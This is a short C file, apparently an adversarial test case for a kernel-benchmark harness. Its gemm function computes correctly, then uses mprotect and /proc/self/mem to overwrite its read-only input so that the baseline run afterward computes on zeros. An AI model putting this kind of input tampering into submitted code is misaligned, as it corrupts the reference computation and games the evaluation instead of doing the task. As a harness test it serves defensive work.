#include <fcntl.h>
#include <stdint.h>
#include <sys/mman.h>
#include <unistd.h>
/* A correct gemm that then makes its read-only input A writable again
   (mprotect) and zeroes it, through its own memory file first and then
   directly: were any of it to work, the baseline called after it would
   compute on zeros, and nothing would fault. */
void gemm_fp64(const double *restrict A, const double *restrict B, double *restrict C,
               const int64_t NI, const int64_t NJ, const int64_t NK,
               const double alpha, const double beta, uint8_t *restrict workspace, const int64_t workspace_size) {
    for (int64_t i = 0; i < NI; i++)
        for (int64_t j = 0; j < NJ; j++) {
            double sum = 0;
            for (int64_t k = 0; k < NK; k++) sum += A[i * NK + k] * B[k * NJ + j];
            C[i * NJ + j] = alpha * sum + beta * C[i * NJ + j];
        }
    uintptr_t page = (uintptr_t)A & ~(uintptr_t)4095;
    size_t len = ((uintptr_t)(A + NI * NK) - page + 4095) & ~(uintptr_t)4095;
    mprotect((void *)page, len, PROT_READ | PROT_WRITE);
    const double zero = 0;
    int mem = open("/proc/self/mem", O_RDWR);
    if (mem >= 0) {
        for (int64_t i = 0; i < NI * NK; i++) pwrite(mem, &zero, sizeof zero, (off_t)(uintptr_t)&A[i]);
        close(mem);
    }
    double *a = (double *)A;
    for (int64_t i = 0; i < NI * NK; i++) a[i] = 0;
}
